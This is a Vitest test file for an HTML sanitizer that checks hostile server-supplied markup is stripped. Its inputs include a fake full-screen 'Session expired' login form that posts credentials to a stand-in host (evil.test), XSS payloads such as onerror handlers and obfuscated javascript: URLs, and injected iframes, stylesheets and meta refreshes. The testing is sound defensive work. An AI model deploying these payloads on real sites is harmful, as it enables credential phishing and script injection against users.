// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeServerHtml } from '../../src/ui/sanitizeHtml';
import { hostileParts, jsdomPurify } from './purify';

const { purify, parse } = jsdomPurify();
const clean = (html: string) => sanitizeServerHtml(html, purify);

describe('sanitizeServerHtml', () => {
  it('keeps ordinary rich text and links', () => {
    expect(clean('<h2>Rules</h2><p>Play <b>fair</b>, see <a href="https://x.test/t">terms</a>.</p><ul><li>one</li></ul><img src="/a.png" alt="a">'))
      .toBe('<h2>Rules</h2><p>Play <b>fair</b>, see <a href="https://x.test/t">terms</a>.</p><ul><li>one</li></ul><img src="/a.png" alt="a">');
  });

  it('drops a full-screen fake "session expired" login form posting elsewhere', () => {
    const phish = `<div style="position:fixed;inset:0;z-index:99999;background:#fff">
      <h2>Session expired</h2>
      <form action="https://evil.test/steal" method="post">
        <input name="user"><input type="password" name="pass"><button formaction="https://evil.test/b">Sign in</button>
        <textarea></textarea><select><option>x</option></select>
      </form></div>`;
    const out = clean(phish);
    expect(hostileParts(parse(out))).toEqual([]);
    expect(out).not.toMatch(/position|fixed|evil\.test|password|<form|<input|<button/i);
    expect(out).toContain('Session expired');
  });

  it('drops scripts, handlers and javascript: URLs', () => {
    const out = clean('<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">y</a><script>alert(1)</script><svg><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)">z</mi></math>');
    expect(hostileParts(parse(out))).toEqual([]);
    expect(out).not.toMatch(/alert/);
  });

  it('drops style sheets, classes borrowing the site\'s overlays, ids and frames', () => {
    const out = clean('<style>body{display:none}</style><link rel="stylesheet" href="https://evil.test/x.css"><div class="chakra-modal__overlay" id="root">a</div><iframe src="https://evil.test"></iframe><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">');
    expect(out).toBe('<div>a</div>');
  });

  it('never lets a link hand our window to another page (no target)', () => {
    expect(clean('<a href="https://x.test" target="_blank">x</a>')).toBe('<a href="https://x.test">x</a>');
  });

  it('answers empty for a non-string', () => {
    expect(clean(undefined as unknown as string)).toBe('');
  });
});
